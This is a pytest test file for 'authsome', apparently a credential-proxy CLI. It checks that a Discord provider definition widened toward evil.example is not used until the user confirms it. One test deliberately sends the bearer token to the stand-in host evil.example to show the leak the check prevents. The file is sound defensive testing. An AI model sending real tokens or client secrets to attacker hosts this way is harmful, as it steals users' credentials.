"""A definition that becomes wider is not used until its user says so, whatever the command."""

from __future__ import annotations

import json
import os
import subprocess
from contextlib import suppress
from pathlib import Path

import pytest

from tests.e2e.desk import AUTHSOME, Desk
from tests.launcher.cli import ROOT
from tests.standin import StandIn

WAY = "the token to evil.example in 'Authorization: Bearer'"
REFUSAL = f"discord/default is not used: the definition of discord would now send {WAY}"
HINT = "authsome: hint: if that is your doing, run 'authsome confirm discord'"
CALL = """
import os, urllib.request
request = urllib.request.Request("https://{host}/api/v10/users/@me")
request.add_header("Authorization", "Bearer " + os.environ["DISCORD_ACCESS_TOKEN"])
print(urllib.request.urlopen(request).status)
"""


@pytest.fixture
def desk(tmp_path: Path, standin: StandIn) -> Desk:
    """Somebody who has logged in."""
    desk = Desk(standin, tmp_path)
    desk.login()
    return desk


def define(desk: Desk, **changes: object) -> None:
    """Write a definition of one's own."""
    definition = json.loads((ROOT / "oauth/providers/discord.json").read_text())
    definition["proxy"].update(changes.pop("proxy", {}))
    definition["auth"].update(changes)
    path = desk.home / "providers/discord.json"
    path.write_text(json.dumps(definition))
    path.chmod(0o600)


def widen(desk: Desk) -> None:
    define(desk, proxy={"hosts": ["discord.com", "evil.example"]})


def call(desk: Desk, host: str = "discord.com") -> str:
    return desk.python(CALL.format(host=host)).stdout


@pytest.mark.parametrize(
    ("command", "status"),
    [
        (("run", "--provider", "discord", "--", "true"), 125),
        (("run", "--connection", "discord/default", "--", "true"), 125),
        (("export", "discord"), 1),
        (("check", "discord"), 1),
        (("login", "discord", "--no-browser"), 1),
        (("logout", "discord"), 1),
    ],
)
def test_no_command_uses_the_connection(desk: Desk, command: tuple[str, ...], status: int) -> None:
    widen(desk)
    desk.standin.forget()
    token = desk.access_token()
    said = desk.authsome(*command)
    assert said.returncode == status
    assert REFUSAL in said.stderr
    assert "authsome confirm discord" in said.stderr
    assert token not in said.stdout
    assert desk.standin.seen == []
    assert desk.access_token() == token


def test_a_run_that_names_nothing_goes_without_it(desk: Desk) -> None:
    widen(desk)
    said = desk.authsome("run", "--", "true")
    assert said.returncode == 3
    assert said.stderr.splitlines()[:2] == [
        f"authsome: warning: discord/default is not offered: {REFUSAL}",
        HINT,
    ]


def test_once_confirmed_it_is_used_as_defined(desk: Desk) -> None:
    widen(desk)
    said = desk.authsome("confirm", "discord", "--yes")
    assert (said.returncode, said.stdout) == (0, "")
    assert said.stderr.splitlines() == [
        "authsome: the definition of discord would now send, for discord/default:",
        f"authsome:   {WAY}",
        "authsome: discord/default is used again",
    ]
    assert call(desk) == "200\n"
    # The twin: without the need to confirm, this is where the token would go.
    call(desk, "evil.example")
    token = desk.access_token().encode()
    assert {seen.host for seen in desk.standin.seen if token in seen.wire} == {"discord.com", "evil.example"}
    said = desk.authsome("confirm", "discord")
    assert (said.returncode, said.stderr) == (0, "authsome: discord/default: there is nothing to confirm\n")


def test_what_is_narrower_is_used_at_once(desk: Desk) -> None:
    define(desk, proxy={"allow": ["GET /api/*/users/@me"]})
    assert call(desk) == "200\n"
    # What was agreed to at the login is still agreed to.
    (desk.home / "providers/discord.json").unlink()
    assert call(desk) == "200\n"


def test_a_login_agrees_to_the_definition_of_its_time(desk: Desk) -> None:
    assert desk.authsome("logout", "discord").returncode == 0
    define(desk, proxy={"allow": ["GET /api/*/users/@me"]})
    desk.login()
    assert call(desk) == "200\n"
    (desk.home / "providers/discord.json").unlink()
    said = desk.authsome("export", "discord")
    assert "would now send the token in requests of every method and path" in said.stderr
    assert said.stdout == ""


def test_each_connection_is_confirmed_by_itself(desk: Desk) -> None:
    desk.login("--connection", "work")
    widen(desk)
    assert desk.authsome("confirm", "discord", "--connection", "work", "--yes").returncode == 0
    said = desk.authsome("run", "--connection", "discord/work", "--", "true")
    assert (said.returncode, said.stderr) == (0, "")
    said = desk.authsome("run", "--connection", "discord/default", "--", "true")
    assert said.returncode == 125


def answered(desk: Desk, answer: str) -> str:
    """What the command shows on a terminal where somebody types an answer."""
    master, slave = os.openpty()
    command = [str(AUTHSOME), "confirm", "discord"]
    with subprocess.Popen(command, env=desk.environ(), stdin=slave, stdout=slave, stderr=slave) as process:
        os.close(slave)
        os.write(master, f"{answer}\n".encode())
        shown = b""
        with suppress(OSError):  # at the end, the terminal has no other side
            while True:
                shown += os.read(master, 4096)
        process.wait(30)
    os.close(master)
    return shown.decode()


def test_it_is_asked_for_on_a_terminal_and_nowhere_else(desk: Desk) -> None:
    widen(desk)
    said = desk.authsome("confirm", "discord", given="y\n")
    assert said.returncode == 2
    assert said.stderr.splitlines()[-2:] == [
        "authsome: error: there is no terminal to ask at",
        "authsome: hint: read the lines above, then add --yes",
    ]
    assert desk.authsome("export", "discord").returncode == 1
    shown = answered(desk, "n")
    assert "authsome: is that wanted? [y/N]: " in shown
    assert "discord/default stays unused" in shown
    assert desk.authsome("export", "discord").returncode == 1
    assert "discord/default is used again" in answered(desk, "y")
    assert desk.authsome("export", "discord").returncode == 0


def test_nothing_is_confirmed_inside_of_a_run(desk: Desk) -> None:
    said = desk.run("authsome", "confirm", "discord", "--yes", options=["--no-sandbox"])
    assert said.returncode == 1
    assert "nothing is agreed to inside of a run" in said.stderr


def test_a_stored_application_is_not_used_at_another_endpoint(desk: Desk) -> None:
    """Without any connection: the login itself would send the client's secret there."""
    assert desk.authsome("logout", "discord").returncode == 0
    define(desk, token_url="https://evil.example/api/oauth2/token")
    said = desk.authsome("login", "discord", "--no-browser", "--timeout", "1")
    first, hint, invitation = said.stderr.splitlines()[:3]
    assert first == (
        "authsome: warning: the stored application is for https://discord.com/api/oauth2/token, and not for "
        "https://evil.example/api/oauth2/token"
    )
    assert hint == "authsome: hint: enter the one that belongs there"
    assert invitation.startswith("authsome: log in at http://127.0.0.1:7998/")
    (desk.home / "providers/discord.json").unlink()
    said = desk.authsome("login", "discord", "--no-browser", "--timeout", "1")
    assert said.stderr.startswith("authsome: log in at http://127.0.0.1:7998/")


def test_the_agreement_is_sealed_with_the_connection(desk: Desk) -> None:
    (slot,) = desk.stored().reach.slots
    assert (slot.host, slot.header, slot.scheme) == ("discord.com", "Authorization", "Bearer")
    files = [path for path in desk.home.iterdir() if path.name.startswith("vault.db")]
    assert files
    assert all(b"Authorization: Bearer" not in path.read_bytes() for path in files)
